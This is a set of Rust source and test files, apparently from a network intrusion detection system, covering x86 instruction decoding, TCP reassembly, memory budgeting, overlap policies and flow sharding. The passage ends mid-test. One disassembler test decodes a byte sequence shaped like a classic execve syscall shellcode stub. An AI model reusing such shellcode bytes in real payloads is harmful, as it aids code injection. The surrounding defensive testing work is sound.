    #[test]
    fn budgeted_sweep_stops_at_instruction_cap() {
        let code = [0x90u8; 64]; // 64 nops
        let out = linear_sweep_budgeted(
            &code,
            &SweepBudget {
                max_instructions: 10,
                max_bytes: usize::MAX,
            },
        );
        assert_eq!(out.instructions.len(), 10);
        assert!(out.exhausted);
    }

    #[test]
    fn budgeted_sweep_stops_at_byte_cap() {
        let code = [0x90u8; 64];
        let out = linear_sweep_budgeted(
            &code,
            &SweepBudget {
                max_instructions: usize::MAX,
                max_bytes: 16,
            },
        );
        assert_eq!(out.instructions.len(), 16);
        assert!(out.exhausted);
    }

    #[test]
    fn budgeted_sweep_matches_full_sweep_within_budget() {
        let code = [0x31, 0xc0, 0xb0, 0x0b, 0xcd, 0x80, 0xc3];
        let out = linear_sweep_budgeted(&code, &SweepBudget::default());
        assert!(!out.exhausted);
        assert_eq!(out.instructions, linear_sweep(&code));
    }

    #[test]
    fn at_offset_starts_mid_buffer() {
        let code = [0x00, 0x90, 0xc3]; // offset 1: nop; ret
        let mut s = InsnStream::at(&code, 1);
        assert_eq!(s.next().unwrap().mnemonic, Mnemonic::Nop);
        assert_eq!(s.next().unwrap().mnemonic, Mnemonic::Ret);
        assert!(s.next().is_none());
    }
}
