//! Operand model: registers, immediates, memory references, branch targets.

use serde::{Deserialize, Serialize};
use std::fmt;

use crate::insn::SegReg;
use crate::reg::Reg;

/// Operand / operation width.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Width {
    /// 8 bits.
    B,
    /// 16 bits.
    W,
    /// 32 bits.
    D,
}

impl Width {
    /// Size in bytes.
    pub fn bytes(self) -> usize {
        match self {
            Width::B => 1,
            Width::W => 2,
            Width::D => 4,
        }
    }

    /// Mask for values of this width.
    pub fn mask(self) -> u32 {
        match self {
            Width::B => 0xff,
            Width::W => 0xffff,
            Width::D => 0xffff_ffff,
        }
    }
}

impl fmt::Display for Width {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Width::B => "byte",
            Width::W => "word",
            Width::D => "dword",
        })
    }
}

/// A memory reference: `seg:[base + index*scale + disp]`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct MemRef {
    /// Segment override, if any.
    pub seg: Option<SegReg>,
    /// Base register.
    pub base: Option<Reg>,
    /// Index register and scale (1, 2, 4 or 8).
    pub index: Option<(Reg, u8)>,
    /// Signed displacement.
    pub disp: i32,
    /// Access width.
    pub width: Width,
}

impl MemRef {
    /// `[base]` with no displacement.
    pub fn base(base: Reg, width: Width) -> MemRef {
        MemRef {
            seg: None,
            base: Some(base),
            index: None,
            disp: 0,
            width,
        }
    }

    /// An absolute `[disp32]` reference.
    pub fn absolute(disp: i32, width: Width) -> MemRef {
        MemRef {
            seg: None,
            base: None,
            index: None,
            disp,
            width,
        }
    }

    /// True if `reg`'s register file participates in the address.
    pub fn uses(&self, gpr: crate::reg::Gpr) -> bool {
        self.base.map(|r| r.gpr == gpr).unwrap_or(false)
            || self.index.map(|(r, _)| r.gpr == gpr).unwrap_or(false)
    }
}

impl fmt::Display for MemRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} ptr ", self.width)?;
        if let Some(seg) = self.seg {
            write!(f, "{seg}:")?;
        }
        f.write_str("[")?;
        let mut wrote = false;
        if let Some(b) = self.base {
            write!(f, "{b}")?;
            wrote = true;
        }
        if let Some((idx, scale)) = self.index {
            if wrote {
                f.write_str("+")?;
            }
            write!(f, "{idx}")?;
            if scale != 1 {
                write!(f, "*{scale}")?;
            }
            wrote = true;
        }
        if self.disp != 0 || !wrote {
            if wrote {
                if self.disp < 0 {
                    write!(f, "-0x{:x}", -(i64::from(self.disp)))?;
                } else {
                    write!(f, "+0x{:x}", self.disp)?;
                }
            } else {
                write!(f, "0x{:x}", self.disp as u32)?;
            }
        }
        f.write_str("]")
    }
}

/// A decoded operand.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Operand {
    /// A register.
    Reg(Reg),
    /// An immediate value (sign-extended into i64 for uniformity) with its
    /// encoded width.
    Imm(i64, Width),
    /// A memory reference.
    Mem(MemRef),
    /// A relative branch target, stored as the *resolved* target offset
    /// within the decoded buffer (i.e. `insn_end + rel`).
    Rel(i64),
    /// A far pointer `seg:offset` (from `JMP FAR ptr16:32` etc.).
    Far {
        /// Segment selector.
        seg: u16,
        /// Offset within the segment.
        off: u32,
    },
    /// A segment register (from `MOV Sreg, r/m` etc.).
    SegReg(SegReg),
}

impl Operand {
    /// The register, if this operand is one.
    pub fn reg(&self) -> Option<Reg> {
        match self {
            Operand::Reg(r) => Some(*r),
            _ => None,
        }
    }

    /// The immediate value, if this operand is one.
    pub fn imm(&self) -> Option<i64> {
        match self {
            Operand::Imm(v, _) => Some(*v),
            _ => None,
        }
    }

    /// The memory reference, if this operand is one.
    pub fn mem(&self) -> Option<&MemRef> {
        match self {
            Operand::Mem(m) => Some(m),
            _ => None,
        }
    }

    /// The width of the operand where defined.
    pub fn width(&self) -> Option<Width> {
        match self {
            Operand::Reg(r) => Some(r.width),
            Operand::Imm(_, w) => Some(*w),
            Operand::Mem(m) => Some(m.width),
            _ => None,
        }
    }
}

impl fmt::Display for Operand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Operand::Reg(r) => write!(f, "{r}"),
            Operand::Imm(v, _) => {
                if *v < 0 {
                    write!(f, "-0x{:x}", -v)
                } else {
                    write!(f, "0x{v:x}")
                }
            }
            Operand::Mem(m) => write!(f, "{m}"),
            Operand::Rel(t) => {
                if *t < 0 {
                    write!(f, "loc_-{:x}", -t)
                } else {
                    write!(f, "loc_{t:x}")
                }
            }
            Operand::Far { seg, off } => write!(f, "0x{seg:x}:0x{off:x}"),
            Operand::SegReg(s) => write!(f, "{s}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::reg::{Gpr, Reg};

    #[test]
    fn width_sizes() {
        assert_eq!(Width::B.bytes(), 1);
        assert_eq!(Width::W.bytes(), 2);
        assert_eq!(Width::D.bytes(), 4);
        assert_eq!(Width::B.mask(), 0xff);
        assert_eq!(Width::D.mask(), 0xffff_ffff);
    }

    #[test]
    fn memref_display_forms() {
        let base = MemRef::base(Reg::r32(Gpr::Eax), Width::B);
        assert_eq!(base.to_string(), "byte ptr [eax]");

        let full = MemRef {
            seg: None,
            base: Some(Reg::r32(Gpr::Ebx)),
            index: Some((Reg::r32(Gpr::Esi), 4)),
            disp: -8,
            width: Width::D,
        };
        assert_eq!(full.to_string(), "dword ptr [ebx+esi*4-0x8]");

        let abs = MemRef::absolute(0x8049000u32 as i32, Width::D);
        assert_eq!(abs.to_string(), "dword ptr [0x8049000]");
    }

    #[test]
    fn memref_uses_tracks_both_base_and_index() {
        let m = MemRef {
            seg: None,
            base: Some(Reg::r32(Gpr::Ebx)),
            index: Some((Reg::r32(Gpr::Esi), 2)),
            disp: 0,
            width: Width::D,
        };
        assert!(m.uses(Gpr::Ebx));
        assert!(m.uses(Gpr::Esi));
        assert!(!m.uses(Gpr::Eax));
    }

    #[test]
    fn operand_accessors() {
        let r = Operand::Reg(Reg::r32(Gpr::Ecx));
        assert_eq!(r.reg().unwrap().gpr, Gpr::Ecx);
        assert!(r.imm().is_none());
        let i = Operand::Imm(-5, Width::B);
        assert_eq!(i.imm(), Some(-5));
        assert_eq!(i.to_string(), "-0x5");
        assert_eq!(Operand::Imm(0x95, Width::B).to_string(), "0x95");
        assert_eq!(Operand::Rel(0x40).to_string(), "loc_40");
    }
}
