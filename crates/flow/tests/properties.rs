//! Property-based tests for TCP reassembly: any segmentation and arrival
//! order of a payload reassembles to the same bytes.

use proptest::prelude::*;
use snids_flow::{FlowTable, Reassembler};
use snids_packet::{PacketBuilder, TcpFlags};
use std::net::Ipv4Addr;

proptest! {
    /// Split a payload at arbitrary points, deliver in arbitrary order:
    /// the assembled stream equals the original.
    #[test]
    fn any_segmentation_any_order_reassembles(
        payload in proptest::collection::vec(any::<u8>(), 1..2000),
        cuts in proptest::collection::vec(1usize..2000, 0..8),
        order_seed in any::<u64>(),
        isn in any::<u32>(),
    ) {
        // segment boundaries
        let mut bounds: Vec<usize> = cuts.iter().map(|c| c % payload.len()).collect();
        bounds.push(0);
        bounds.push(payload.len());
        bounds.sort_unstable();
        bounds.dedup();
        let mut segments: Vec<(usize, &[u8])> = bounds
            .windows(2)
            .map(|w| (w[0], &payload[w[0]..w[1]]))
            .collect();
        // deterministic shuffle
        let mut s = order_seed;
        for i in (1..segments.len()).rev() {
            s = s.wrapping_mul(6364136223846793005).wrapping_add(1);
            segments.swap(i, (s >> 33) as usize % (i + 1));
        }

        let mut r = Reassembler::default();
        r.on_syn(isn);
        for (off, seg) in &segments {
            r.on_data(isn.wrapping_add(1).wrapping_add(*off as u32), seg);
        }
        prop_assert_eq!(r.assembled(), payload);
    }

    /// Duplicated (retransmitted) segments change nothing.
    #[test]
    fn retransmissions_are_idempotent(
        payload in proptest::collection::vec(any::<u8>(), 1..500),
        dup_count in 1usize..4,
    ) {
        let mut r = Reassembler::default();
        r.on_syn(100);
        for _ in 0..=dup_count {
            for (i, chunk) in payload.chunks(64).enumerate() {
                r.on_data(101 + (i as u32) * 64, chunk);
            }
        }
        prop_assert_eq!(r.assembled(), payload);
    }

    /// The flow table keeps distinct five-tuples separate under interleaved
    /// delivery.
    #[test]
    fn interleaved_flows_stay_separate(
        a_payload in proptest::collection::vec(any::<u8>(), 1..600),
        b_payload in proptest::collection::vec(any::<u8>(), 1..600),
    ) {
        let mut table = FlowTable::default();
        let src = Ipv4Addr::new(10, 0, 0, 1);
        let dst = Ipv4Addr::new(10, 0, 0, 2);
        let build = |port: u16, seq: u32, data: &[u8]| {
            PacketBuilder::new(src, dst)
                .tcp(port, 80, seq, 1, TcpFlags::ACK | TcpFlags::PSH, data)
                .unwrap()
        };
        let a_chunks: Vec<_> = a_payload.chunks(50).collect();
        let b_chunks: Vec<_> = b_payload.chunks(50).collect();
        let mut ka = None;
        let mut kb = None;
        for i in 0..a_chunks.len().max(b_chunks.len()) {
            if let Some(c) = a_chunks.get(i) {
                let off: usize = a_chunks[..i].iter().map(|c| c.len()).sum();
                ka = table.process(&build(1111, off as u32, c));
            }
            if let Some(c) = b_chunks.get(i) {
                let off: usize = b_chunks[..i].iter().map(|c| c.len()).sum();
                kb = table.process(&build(2222, off as u32, c));
            }
        }
        prop_assert_eq!(table.get(&ka.unwrap()).unwrap().payload(), a_payload);
        prop_assert_eq!(table.get(&kb.unwrap()).unwrap().payload(), b_payload);
    }
}
