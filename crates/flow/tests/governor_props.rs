//! Property-based tests for the memory governor: under arbitrary
//! hostile interleavings the budget's tracked bytes stay bounded, every
//! byte comes back on drain, and protected flows are only ever shed
//! when no unprotected victim was eligible.

use proptest::prelude::*;
use snids_flow::defrag::fragment_packet;
use snids_flow::{
    DefragConfig, Defragmenter, FlowTable, FlowTableConfig, MemoryBudget, PressureLevel,
};
use snids_packet::{PacketBuilder, TcpFlags};
use std::net::Ipv4Addr;
use std::sync::Arc;

const LIMIT: u64 = 32 * 1024;

/// The hard ceiling the governor guarantees for this configuration.
///
/// After every packet either tracked ≤ critical (the shed loop ran dry)
/// or a single flow remains, bounded by its own stream cap; one in-flight
/// charge of at most a segment (plus an equal-size shadow retention) can
/// land on top before the loop runs.
fn ceiling(max_stream: u64, max_segment: u64) -> u64 {
    (LIMIT * 9 / 10 + 2 * max_segment).max(max_stream + 2 * max_segment)
}

proptest! {
    /// Arbitrary TCP segments — wrapping ISNs and overlaps included —
    /// interleaved with a never-completing fragment flood, all charging
    /// one shared budget: tracked bytes never exceed the governor's
    /// ceiling, and every byte is released once the table and the
    /// defragmenter drain.
    #[test]
    fn tracked_bytes_stay_bounded_and_drain_to_zero(
        events in proptest::collection::vec(
            (0u8..16, any::<u32>(), 1usize..400, any::<bool>(), any::<u16>()),
            1..120,
        ),
    ) {
        let budget = Arc::new(MemoryBudget::limited(LIMIT));
        let mut table = FlowTable::with_budget(
            FlowTableConfig {
                max_flows: 4096,
                max_stream_bytes: 4096,
                ..FlowTableConfig::default()
            },
            Arc::clone(&budget),
        );
        let mut defrag = Defragmenter::with_budget(
            DefragConfig {
                max_datagram: 2048,
                ..DefragConfig::default()
            },
            Arc::clone(&budget),
        );
        let dst = Ipv4Addr::new(10, 9, 9, 9);
        let cap = ceiling(4096, 1200);

        for (i, (flow_id, seq, len, as_fragments, ident)) in events.iter().enumerate() {
            let src = Ipv4Addr::new(10, 0, 1 + (flow_id % 4), 1 + flow_id);
            let payload = vec![0x41u8; *len * 3];
            let packet = PacketBuilder::new(src, dst)
                .at(i as u64 * 100)
                .identification(*ident)
                .tcp(
                    1000 + u16::from(*flow_id),
                    80,
                    *seq,
                    0,
                    TcpFlags::ACK | TcpFlags::PSH,
                    &payload,
                )
                .unwrap();
            if *as_fragments {
                // Withhold the last fragment: the datagram never
                // completes and its pieces park in the defragmenter.
                let mut frags = fragment_packet(&packet, 256);
                frags.pop();
                for f in frags {
                    defrag.ingest(f);
                    prop_assert!(
                        budget.tracked() <= cap,
                        "defrag breached: {} > {cap}",
                        budget.tracked()
                    );
                }
            } else {
                table.process_tracked(&packet);
                prop_assert!(
                    budget.tracked() <= cap,
                    "table breached: {} > {cap}",
                    budget.tracked()
                );
            }
        }

        // After the incomplete datagrams drain, what remains tracked is
        // exactly the flow table's parked stream bytes.
        defrag.drain_incomplete();
        let parked: u64 = table.flows().map(|f| f.mem_bytes() as u64).sum();
        prop_assert_eq!(budget.tracked(), parked);

        table.drain();
        prop_assert_eq!(budget.tracked(), 0, "bytes leaked after drain");
        prop_assert!(budget.peak() <= cap);
    }

    /// Whenever the governor sheds a *protected* flow, no unprotected
    /// flow was eligible at that moment — `ShedFlow::unprotected_available`
    /// records the invariant at the decision point.
    #[test]
    fn protected_flows_are_shed_only_as_a_last_resort(
        flows in proptest::collection::vec(
            (1u8..120, 64usize..400, any::<bool>()),
            2..80,
        ),
        limit_kib in 2u64..6,
    ) {
        let budget = Arc::new(MemoryBudget::limited(limit_kib * 1024));
        let mut table = FlowTable::with_budget(
            FlowTableConfig {
                max_flows: 12,
                max_stream_bytes: 2048,
                hand_off_shed: true,
                ..FlowTableConfig::default()
            },
            Arc::clone(&budget),
        );
        let dst = Ipv4Addr::new(10, 9, 9, 9);
        let mut any_shed = false;

        for (i, (oct, len, flagged)) in flows.iter().enumerate() {
            let src = Ipv4Addr::new(10, 1, 0, *oct);
            if *flagged {
                // The analyzer saw this source attack: pin its flows.
                table.protect_source(src);
            }
            let packet = PacketBuilder::new(src, dst)
                .at(i as u64 * 100)
                .tcp(
                    2000 + i as u16,
                    80,
                    1,
                    0,
                    TcpFlags::ACK | TcpFlags::PSH,
                    &vec![0x42u8; *len],
                )
                .unwrap();
            table.process_tracked(&packet);
            for shed in table.take_shed() {
                any_shed = true;
                prop_assert!(
                    !shed.flow.protected() || shed.unprotected_available == 0,
                    "protected flow shed while {} unprotected victim(s) remained",
                    shed.unprotected_available
                );
            }
        }
        // The tiny budget and slot cap make pressure unavoidable for any
        // sequence that parks enough bytes; when nothing was shed the
        // workload stayed under both caps, which the budget must agree
        // with.
        if !any_shed {
            prop_assert!(budget.level() == PressureLevel::Normal || table.flows().count() <= 12);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// The sharded front half hands every shard its own `Arc` clone of
    /// one global budget. N clones charging and releasing concurrently
    /// must keep the shared `tracked_bytes` exact: it can never exceed
    /// the limit plus the bounded in-flight slack (each shard holds at
    /// most one charge before its matching release), it can never go
    /// negative — `release` saturates, so any underflow would *strand*
    /// bytes and show up as a non-zero final count — and once every
    /// shard drains it returns to exactly 0.
    #[test]
    fn multi_clone_charges_stay_bounded_and_drain_to_zero(
        per_shard in proptest::collection::vec(
            proptest::collection::vec(1u64..2048, 1..64),
            2..9,
        ),
    ) {
        const SLACK: u64 = 2048; // max single in-flight charge per clone
        let shards = per_shard.len() as u64;
        let limit = 8 * 1024;
        let budget = Arc::new(MemoryBudget::limited(limit));
        std::thread::scope(|scope| {
            for amounts in &per_shard {
                let clone = Arc::clone(&budget);
                scope.spawn(move || {
                    for &n in amounts {
                        clone.charge(n);
                        // Each clone holds at most one charge in flight,
                        // so the global count is bounded by everyone's
                        // worst-case in-flight bytes at once.
                        assert!(
                            clone.tracked() <= shards * SLACK,
                            "tracked {} above limit+slack",
                            clone.tracked()
                        );
                        clone.release(n);
                    }
                });
            }
        });
        // Exactly zero: a saturated (would-be negative) release anywhere
        // leaves stranded bytes behind, so == 0 proves both properties.
        prop_assert_eq!(budget.tracked(), 0, "clones did not drain to zero");
        prop_assert!(budget.peak() <= shards * SLACK);
        prop_assert!(budget.peak() > 0);
        prop_assert_eq!(budget.level(), PressureLevel::Normal);
    }
}

/// Seq-wraparound spotlight (deterministic, not a proptest): a stream
/// anchored just below `u32::MAX` crossing zero keeps its accounting
/// exact — wraparound cannot double-charge or leak on drain.
#[test]
fn seq_wraparound_accounting_is_exact() {
    let budget = Arc::new(MemoryBudget::limited(LIMIT));
    let mut table = FlowTable::with_budget(
        FlowTableConfig {
            max_stream_bytes: 4096,
            ..FlowTableConfig::default()
        },
        Arc::clone(&budget),
    );
    let src = Ipv4Addr::new(10, 2, 2, 2);
    let dst = Ipv4Addr::new(10, 9, 9, 9);
    let isn = u32::MAX - 100;
    let syn = PacketBuilder::new(src, dst)
        .at(0)
        .tcp(3000, 80, isn, 0, TcpFlags::SYN, &[])
        .unwrap();
    table.process_tracked(&syn);
    let mut seq = isn.wrapping_add(1);
    for i in 0..8u64 {
        let data = vec![0x43u8; 64];
        let p = PacketBuilder::new(src, dst)
            .at(10 + i)
            .tcp(3000, 80, seq, 0, TcpFlags::ACK | TcpFlags::PSH, &data)
            .unwrap();
        table.process_tracked(&p);
        seq = seq.wrapping_add(64);
    }
    let parked: u64 = table.flows().map(|f| f.mem_bytes() as u64).sum();
    assert_eq!(budget.tracked(), parked);
    assert_eq!(parked, 8 * 64, "contiguous bytes across the wrap");
    table.drain();
    assert_eq!(budget.tracked(), 0);
}
