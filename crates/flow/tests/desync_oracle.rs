//! Differential oracle for the overlap-policy reassembly engine, plus the
//! never-panic / invariant suite.
//!
//! The oracle is a deliberately naive per-byte reference model: a
//! `BTreeMap<u32, (u8, u32)>` mapping each relative offset to `(value,
//! owner_start)`, resolving every overlapped byte one at a time with the
//! policy rule. The engine keeps disjoint chunk runs and resolves whole
//! contested regions at once — these tests pin the two byte-exact equal
//! (assembled stream, coverage, and conflict ledger) on randomized
//! adversarial segment corpora for every policy.

use proptest::prelude::*;
use snids_flow::{OverlapPolicy, Reassembler};
use std::collections::BTreeMap;

/// The naive reference model. Mirrors the engine's anchoring, window and
/// cap rules; differs only in doing everything a byte at a time.
struct ByteModel {
    policy: OverlapPolicy,
    isn: Option<u32>,
    /// relative offset → (byte value, owner segment's relative start)
    map: BTreeMap<u32, (u8, u32)>,
    max_bytes: usize,
    conflicts: u64,
}

impl ByteModel {
    fn new(max_bytes: usize, policy: OverlapPolicy) -> Self {
        ByteModel {
            policy,
            isn: None,
            map: BTreeMap::new(),
            max_bytes,
            conflicts: 0,
        }
    }

    fn on_syn(&mut self, seq: u32) {
        if self.isn.is_none() {
            self.isn = Some(seq.wrapping_add(1));
        }
    }

    fn on_data(&mut self, seq: u32, data: &[u8]) {
        if data.is_empty() {
            return;
        }
        let isn = *self.isn.get_or_insert(seq);
        let rel = seq.wrapping_sub(isn);
        if rel > u32::MAX / 2 {
            return;
        }
        let end = rel as u64 + data.len() as u64;
        if end > self.max_bytes as u64 || end > u64::from(u32::MAX / 2) + 1 {
            return; // engine sets `truncated`; coverage-wise a no-op
        }
        for (i, &b) in data.iter().enumerate() {
            let off = rel + i as u32;
            match self.map.get(&off).copied() {
                None => {
                    self.map.insert(off, (b, rel));
                }
                Some((old_b, old_owner)) => {
                    if old_b != b {
                        self.conflicts += 1;
                    }
                    let new_wins = match self.policy {
                        OverlapPolicy::FirstWins => false,
                        OverlapPolicy::LastWins => true,
                        OverlapPolicy::BsdLike => rel < old_owner,
                        OverlapPolicy::LinuxLike => rel <= old_owner,
                    };
                    if new_wins {
                        self.map.insert(off, (b, rel));
                    }
                }
            }
        }
    }

    fn buffered(&self) -> usize {
        self.map.len()
    }

    fn assembled(&self) -> Vec<u8> {
        let mut out = Vec::new();
        for (&off, &(b, _)) in &self.map {
            if off as usize != out.len() {
                break;
            }
            out.push(b);
        }
        out
    }
}

/// Derive an adversarial segment list from proptest primitives: offsets
/// cluster inside a small window so overlaps (including repeated and
/// divergent ones) are common, and each segment's bytes come from a
/// per-segment seed so conflicting copies genuinely differ.
fn segments_from(specs: &[(u32, u16, u64)]) -> Vec<(u32, Vec<u8>)> {
    specs
        .iter()
        .map(|&(off, len, fill_seed)| {
            let len = 1 + (len % 64) as usize;
            let mut s = fill_seed | 1;
            let data: Vec<u8> = (0..len)
                .map(|_| {
                    s = s.wrapping_mul(6364136223846793005).wrapping_add(1);
                    (s >> 56) as u8
                })
                .collect();
            (off % 512, data)
        })
        .collect()
}

proptest! {
    /// Byte-exact agreement between the chunk engine and the naive byte
    /// map, for every policy, on randomized adversarial segment corpora:
    /// same assembled stream, same coverage, same conflict count.
    #[test]
    fn engine_agrees_with_byte_oracle(
        specs in proptest::collection::vec((any::<u32>(), any::<u16>(), any::<u64>()), 1..24),
        isn in any::<u32>(),
    ) {
        let segments = segments_from(&specs);
        for policy in OverlapPolicy::ALL {
            let mut engine = Reassembler::with_policy(4096, policy);
            let mut oracle = ByteModel::new(4096, policy);
            engine.on_syn(isn);
            oracle.on_syn(isn);
            for (off, data) in &segments {
                let seq = isn.wrapping_add(1).wrapping_add(*off);
                engine.on_data(seq, data);
                oracle.on_data(seq, data);
            }
            prop_assert_eq!(
                engine.assembled(),
                oracle.assembled(),
                "assembled diverged under {}",
                policy.name()
            );
            prop_assert_eq!(
                engine.buffered(),
                oracle.buffered(),
                "coverage diverged under {}",
                policy.name()
            );
            prop_assert_eq!(
                engine.overlap_conflict_bytes(),
                oracle.conflicts,
                "conflict ledger diverged under {}",
                policy.name()
            );
        }
    }

    /// Never-panic + core invariants under arbitrary (unclamped) sequence
    /// numbers and a tiny cap: `buffered() <= max_bytes` always, the
    /// assembled prefix never exceeds the cap, and wraparound boundaries
    /// cannot smuggle bytes past it.
    #[test]
    fn invariants_hold_under_arbitrary_segments(
        raw_seqs in proptest::collection::vec((any::<u32>(), any::<u16>(), any::<u64>()), 1..32),
        syn in any::<u32>(),
        max_bytes in 1usize..256,
    ) {
        for policy in OverlapPolicy::ALL {
            let mut r = Reassembler::with_policy(max_bytes, policy);
            r.on_syn(syn);
            for &(seq, len, fill) in &raw_seqs {
                // Raw absolute sequence numbers: below-ISN, far-future and
                // wrapping values all included — none may panic.
                let len = 1 + (len % 96) as usize;
                let data: Vec<u8> = (0..len).map(|i| (fill as u8).wrapping_add(i as u8)).collect();
                r.on_data(seq, &data);
                prop_assert!(
                    r.buffered() <= max_bytes,
                    "buffered {} > cap {} under {}",
                    r.buffered(),
                    max_bytes,
                    policy.name()
                );
                prop_assert!(r.assembled().len() <= max_bytes);
            }
        }
    }

    /// Under `FirstWins`, `assembled()` is prefix-stable: feeding more
    /// segments never rewrites bytes already delivered, only extends them.
    /// (Under the other policies content may legitimately change, but the
    /// assembled length is still non-decreasing — coverage only grows.)
    #[test]
    fn first_wins_is_prefix_stable_and_length_monotone(
        specs in proptest::collection::vec((any::<u32>(), any::<u16>(), any::<u64>()), 1..24),
    ) {
        let segments = segments_from(&specs);
        for policy in OverlapPolicy::ALL {
            let mut r = Reassembler::with_policy(4096, policy);
            r.on_syn(0);
            let mut prev = Vec::new();
            for (off, data) in &segments {
                r.on_data(1u32.wrapping_add(*off), data);
                let now = r.assembled();
                prop_assert!(
                    now.len() >= prev.len(),
                    "assembled length shrank under {}",
                    policy.name()
                );
                if policy == OverlapPolicy::FirstWins {
                    prop_assert_eq!(
                        &now[..prev.len()],
                        &prev[..],
                        "FirstWins rewrote delivered bytes"
                    );
                }
                prev = now;
            }
        }
    }

    /// Cap enforcement at wraparound boundaries: anchoring near the top of
    /// sequence space, segments that cross 2^32 land at their correct
    /// relative offsets and the cap still binds.
    #[test]
    fn cap_enforced_across_sequence_wraparound(
        cap in 8usize..128,
        spill in 1u32..64,
    ) {
        for policy in OverlapPolicy::ALL {
            let mut r = Reassembler::with_policy(cap, policy);
            r.on_syn(u32::MAX - 4); // isn = MAX - 3, rel 0 at seq MAX-3
            // Fill to the cap exactly, crossing the 2^32 boundary.
            let fill = vec![0xAB; cap];
            r.on_data(u32::MAX - 3, &fill);
            prop_assert!(!r.truncated());
            prop_assert_eq!(r.buffered(), cap);
            prop_assert_eq!(r.assembled(), fill.clone());
            // One more byte anywhere past the cap must refuse + mark.
            let past = (u32::MAX - 3).wrapping_add(cap as u32);
            r.on_data(past.wrapping_add(spill - 1), &[0xCD]);
            prop_assert!(r.truncated());
            prop_assert_eq!(r.buffered(), cap);
            prop_assert_eq!(r.assembled(), fill);
        }
    }
}
