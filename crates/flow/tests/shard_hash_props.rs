//! Property tests for the canonical flow hash that keys the sharded
//! front half. Three properties carry the whole sharding refactor:
//! direction symmetry (both directions of a conversation co-locate),
//! fragment stability (every fragment of a datagram co-locates, which
//! is why the hash must ignore ports), and rough uniformity (no shard
//! is a hot spot on random traffic).

use proptest::prelude::*;
use snids_flow::defrag::fragment_packet;
use snids_flow::shard::{canonical_flow_hash, shard_of_key, shard_of_packet, shard_of_pair};
use snids_flow::FlowKey;
use snids_packet::{IpProtocol, PacketBuilder, TcpFlags};
use std::net::Ipv4Addr;

fn addr(bits: u32) -> Ipv4Addr {
    Ipv4Addr::from(bits)
}

proptest! {
    /// `shard_of_key` never distinguishes a key from its reverse: the
    /// response stream always lands on the shard that holds the request
    /// stream, for every shard count.
    #[test]
    fn direction_symmetric(
        src in any::<u32>(),
        dst in any::<u32>(),
        sport in any::<u16>(),
        dport in any::<u16>(),
        shards in 1usize..16,
    ) {
        let key = FlowKey {
            src: addr(src),
            dst: addr(dst),
            src_port: sport,
            dst_port: dport,
            proto: IpProtocol::Tcp,
        };
        prop_assert_eq!(
            shard_of_key(&key, shards),
            shard_of_key(&key.reversed(), shards)
        );
        prop_assert_eq!(
            canonical_flow_hash(key.src, key.dst),
            canonical_flow_hash(key.dst, key.src)
        );
        prop_assert!(shard_of_key(&key, shards) < shards);
    }

    /// Ports never influence routing: two conversations between the same
    /// address pair co-locate no matter their ports. (This is the
    /// property that makes fragment routing possible at all — non-first
    /// fragments have no ports to hash.)
    #[test]
    fn port_blind(
        src in any::<u32>(),
        dst in any::<u32>(),
        ports in proptest::collection::vec((any::<u16>(), any::<u16>()), 2..8),
        shards in 2usize..16,
    ) {
        let home = shard_of_pair(addr(src), addr(dst), shards);
        for (sport, dport) in ports {
            let key = FlowKey {
                src: addr(src),
                dst: addr(dst),
                src_port: sport,
                dst_port: dport,
                proto: IpProtocol::Tcp,
            };
            prop_assert_eq!(shard_of_key(&key, shards), home);
        }
    }

    /// Every fragment of a fragmented datagram routes to the same shard
    /// as the unfragmented original — including non-first fragments,
    /// which carry no transport header and therefore no `FlowKey`.
    #[test]
    fn fragment_stable(
        src in any::<u32>(),
        dst in any::<u32>(),
        sport in 1u16..,
        payload_len in 600usize..2400,
        mtu in 64usize..512,
        shards in 2usize..16,
    ) {
        let payload = vec![0x5Au8; payload_len];
        let packet = PacketBuilder::new(addr(src), addr(dst))
            .identification(0x1234)
            .tcp(sport, 80, 1, 0, TcpFlags::ACK | TcpFlags::PSH, &payload)
            .unwrap();
        let home = shard_of_packet(&packet, shards).unwrap();
        if let Some(key) = FlowKey::of(&packet) {
            prop_assert_eq!(shard_of_key(&key, shards), home);
        }
        let frags = fragment_packet(&packet, mtu);
        prop_assert!(frags.len() >= 2, "payload should not fit one fragment");
        for frag in &frags {
            prop_assert_eq!(shard_of_packet(frag, shards), Some(home));
        }
    }

    /// Load balance: hashing 10 000 pseudo-random address pairs onto 8
    /// shards, no shard receives more than 2× the mean. The pairs are
    /// derived from a proptest-chosen seed through an xorshift stream,
    /// so each case exercises a fresh corner of the address space
    /// without generating 10 000 strategy values per case.
    #[test]
    fn uniform_over_random_pairs(seed in any::<u64>()) {
        const KEYS: usize = 10_000;
        const SHARDS: usize = 8;
        let mut state = seed | 1;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let mut counts = [0usize; SHARDS];
        for _ in 0..KEYS {
            let word = next();
            let (a, b) = ((word >> 32) as u32, word as u32);
            counts[shard_of_pair(addr(a), addr(b), SHARDS)] += 1;
        }
        let mean = KEYS / SHARDS;
        for (shard, &count) in counts.iter().enumerate() {
            prop_assert!(
                count <= 2 * mean,
                "shard {shard} got {count} of {KEYS} keys (mean {mean})"
            );
        }
    }
}

/// Structured address plans must also spread: one busy server talking to
/// a sequential /16 of clients (the worst case for a truncation-style
/// hash) still keeps every shard under 2× the mean.
#[test]
fn uniform_over_sequential_clients() {
    const SHARDS: usize = 8;
    let server = Ipv4Addr::new(192, 168, 1, 10);
    let mut counts = [0usize; SHARDS];
    let total = 256 * 40;
    for c in 0..40u32 {
        for d in 0..256u32 {
            let client = Ipv4Addr::from(0x0A00_0000 | (c << 8) | d);
            counts[shard_of_pair(client, server, SHARDS)] += 1;
        }
    }
    let mean = total / SHARDS;
    for (shard, &count) in counts.iter().enumerate() {
        assert!(
            count <= 2 * mean,
            "shard {shard} got {count} of {total} sequential clients (mean {mean})"
